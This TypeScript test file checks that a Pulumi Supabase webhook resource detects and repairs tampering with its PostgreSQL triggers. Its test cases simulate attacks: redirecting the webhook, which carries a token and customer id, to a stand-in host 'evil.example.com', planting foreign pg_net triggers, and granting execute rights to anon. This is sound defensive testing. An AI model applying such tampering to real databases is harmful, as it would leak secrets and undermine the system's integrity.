import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { ResourceLife } from "./resource-life.ts";
import type { TestProject } from "./test-project.ts";
import { exampleWebhook as args, WebhookProject } from "./webhook-project.ts";

describe.each([15, 18] as const)("on PostgreSQL %i", (version) => {
  let place: WebhookProject;
  let project: TestProject;
  let webhook: ResourceLife;
  const rings = () => place.rings();
  const insert = (name: string) => place.insert(name);

  beforeAll(async () => {
    place = await WebhookProject.start(version);
    project = place.project;
  });
  afterAll(() => project.stop());

  beforeEach(async () => {
    webhook = await place.install();
  });
  afterEach(() => place.clear());

  const rehang = (url: string) => `
    do $$ declare definition text; begin
      select pg_get_triggerdef(oid) into definition from pg_trigger where tgname = 'organizations_to_worker_insert';
      drop trigger organizations_to_worker_insert on public.organizations;
      execute replace(definition, 'https://worker.example.com', '${url}');
    end $$`;
  const ring =
    "(select oid::regproc from pg_proc where pronamespace = 'pulumi_supabase'::regnamespace)";

  test.each([
    {
      what: "a changed url",
      change: rehang("https://evil.example.com"),
      seen: { url: args.url.replace("worker", "evil") },
    },
    {
      what: "a disabled trigger",
      change: "alter table public.organizations disable trigger organizations_to_worker_update",
      seen: {
        enabled: false,
        drift: ["trigger organizations_to_worker_update on public.organizations is disabled"],
      },
    },
    {
      what: "a dropped trigger",
      change: "drop trigger organizations_to_worker_insert on public.organizations",
      seen: {
        events: ["UPDATE"],
        drift: ["trigger organizations_to_worker_insert on public.organizations is missing"],
      },
    },
    {
      what: "a trigger with a condition",
      change: `drop trigger organizations_to_worker_update on public.organizations;
        do $$ begin execute format('create trigger organizations_to_worker_update after update on public.organizations
          for each row when (old.name = ''x'') execute function %s(${"''https://worker.example.com/webhooks/supabase?x=''''1'''''', ''webhook_token'', ''4000'', ''stripe_customer_id''"})', ${ring}); end $$`,
      seen: { drift: ["trigger organizations_to_worker_update on public.organizations changed"] },
    },
    {
      what: "a second trigger that rings",
      change: `do $$ begin execute format('create trigger again after insert on public.organizations
        referencing new table as new_rows for each statement execute function %s(''https://x'')', ${ring}); end $$`,
      seen: { foreignWebhooks: ["again"] },
    },
    {
      what: "a foreign webhook",
      change: `create schema if not exists supabase_functions;
        create or replace function supabase_functions.http_request() returns trigger language plpgsql as 'begin return null; end';
        create trigger "My hook" after insert on public.organizations for each row
        execute function supabase_functions.http_request('https://x', 'POST', '{}', '{}', '1000')`,
      seen: { foreignWebhooks: ["My hook"] },
    },
    {
      what: "a trigger that calls pg_net itself",
      change: `create or replace function public.calls_net() returns trigger language plpgsql as
        'begin perform net.http_post(''https://x''); return null; end';
        create trigger calls_net after insert on public.organizations for each row execute function public.calls_net()`,
      seen: { foreignWebhooks: ["calls_net"] },
    },
    {
      what: "a right to call the function",
      change: `do $$ begin execute format('grant execute on function %s() to anon', ${ring}); end $$`,
      seen: {
        drift: [
          expect.stringMatching(
            /^grant EXECUTE on function pulumi_supabase\.organizations_to_worker_\w{8}\(\) to anon was added$/,
          ),
        ],
      },
    },
    {
      what: "a changed function",
      change: `do $$ begin execute format('create or replace function %s() returns trigger language plpgsql as ''begin return null; end''', ${ring}); end $$`,
      seen: { code: expect.stringMatching(/^[0-9a-f]{12}$/) },
    },
    {
      what: "a function that is no longer bounded in its waiting",
      change: `do $$ begin execute format('alter function %s() reset lock_timeout', ${ring}); end $$`,
      seen: { code: expect.stringMatching(/^[0-9a-f]{12}$/) },
    },
  ])("a refresh shows $what, and up repairs it", async ({ change, seen }) => {
    await project.sql(change);
    expect(await webhook.refresh()).toEqual(seen);
    expect(await webhook.refresh()).toEqual({});
    await webhook.up(args);
    expect(await webhook.refresh()).toEqual({});
    await insert("Example");
    expect(await rings()).toHaveLength(1);
  });

  test("is gone when nothing is left, and made again", async () => {
    await project.sql("drop schema pulumi_supabase cascade");
    expect(await webhook.refresh()).toBeNull();
    await webhook.up(args);
    await insert("Example");
    expect(await rings()).toHaveLength(1);
  });

  test("a foreign webhook goes only after a diff has shown it, and never an allowed one", async () => {
    const foreign = (name: string) => `
      create or replace function public.calls_net() returns trigger language plpgsql as
        'begin perform net.http_post(''https://x''); return null; end';
      create trigger ${name} after delete on public.organizations for each row execute function public.calls_net();`;
    const names = async () =>
      (
        await project.sql(
          "select tgname from pg_trigger where tgfoid = to_regproc('public.calls_net') order by 1",
        )
      ).map(({ tgname }) => tgname);
    await project.sql(foreign("wanted") + foreign("unwanted"));
    await webhook.up({ ...args, timeoutMs: 5_000, foreignWebhooks: ["wanted"] });
    expect(await names()).toEqual(["unwanted", "wanted"]);
    expect(await webhook.refresh()).toEqual({ foreignWebhooks: ["wanted", "unwanted"] });
    expect(await webhook.up({ ...args, timeoutMs: 5_000, foreignWebhooks: ["wanted"] })).toEqual({
      "foreignWebhooks[1]": "DELETE",
    });
    expect(await names()).toEqual(["wanted"]);
    expect(await webhook.refresh()).toEqual({});
    await project.sql("drop function public.calls_net() cascade");
  });
});
